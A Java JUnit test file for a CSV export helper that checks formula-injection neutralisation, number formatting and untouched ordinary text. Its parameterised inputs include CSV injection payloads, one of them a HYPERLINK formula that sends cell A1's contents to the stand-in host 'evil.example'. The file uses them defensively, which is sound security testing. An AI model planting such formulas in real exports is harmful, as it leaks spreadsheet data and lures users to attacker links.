package dev.routemetrics.query.http;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import java.math.BigDecimal;
import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * CSV as a spreadsheet will open it: text that a spreadsheet would run as a formula is neutralised,
 * numbers stay numbers.
 */
class CsvTest {

  /** The one cell's text as written (after the header line). */
  private static String written(Object value) {
    Map<String, Object> row = new LinkedHashMap<>();
    row.put("cell", value);
    String csv = Csv.write(List.of(row));
    return csv.substring("cell\n".length(), csv.length() - 1);
  }

  /** The one cell's value as a CSV reader (Jackson's, as a spreadsheet would) reads it back. */
  private static String readBack(Object value) throws Exception {
    Map<String, Object> row = new LinkedHashMap<>();
    row.put("cell", value);
    CsvMapper mapper = new CsvMapper();
    try (MappingIterator<Map<String, String>> rows =
        mapper
            .readerForMapOf(String.class)
            .with(CsvSchema.emptySchema().withHeader())
            .readValues(Csv.write(List.of(row)))) {
      return rows.next().get("cell");
    }
  }

  @ParameterizedTest(name = "[{0}]")
  @ValueSource(
      strings = {
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"invoice\")",
        "=1+2",
        "+1+2",
        "-1+2",
        "-12.5",
        "@SUM(A1:A9)",
        "\t=1+2",
        "\r=1+2"
      })
  @DisplayName(
      "a text cell starting with = + - @, tab or carriage return gets a leading single quote (OWASP"
          + " CSV injection)")
  void shouldNeutraliseTextThatASpreadsheetWouldRunAsAFormula(String text) throws Exception {
    assertThat(readBack(text)).isEqualTo("'" + text);
    // Quoted by the CSV writer or not, the cell's first character is the neutralising quote.
    assertThat(written(text)).matches("(?s)\"?'.*");
  }

  @Test
  @DisplayName(
      "the partner's billing id from the probe leaves as text a spreadsheet shows, not a link it"
          + " follows")
  void shouldNeutraliseTheProbesBillingId() {
    assertThat(written("=HYPERLINK(\"https://evil.example\",\"pay here\")"))
        .isEqualTo("\"'=HYPERLINK(\"\"https://evil.example\"\",\"\"pay here\"\")\"");
  }

  @Test
  @DisplayName("numbers are written as numbers: negative money, counts and ratios get no quote")
  void shouldLeaveNumbersAsNumbers() {
    Map<String, Object> row = new LinkedHashMap<>();
    row.put("net_gap_money", new BigDecimal("-12.5000"));
    row.put("count", -3L);
    row.put("ratio", -0.25);
    row.put("int", 7);
    row.put("net", new BigDecimal("39763.58"));
    row.put("when", Instant.parse("2026-11-01T10:00:00Z"));
    row.put("safe", "cloud-nimbus");
    row.put("missing", null);
    // Money at the warehouse's four decimals, exactly (39763.58 as 39763.5800, never
    // 39763.579999…).
    assertThat(Csv.write(List.of(row)).lines().toList())
        .containsExactly(
            "net_gap_money,count,ratio,int,net,when,safe,missing",
            "-12.5000,-3,-0.25,7,39763.5800,2026-11-01T10:00:00Z,cloud-nimbus,");
  }

  @Test
  @DisplayName("text in the middle of a cell is left as it is")
  void shouldLeaveOrdinaryTextAlone() {
    assertThat(written("nimbus-2026-11-01T10")).isEqualTo("nimbus-2026-11-01T10");
    assertThat(written("a=b")).isEqualTo("a=b");
  }
}
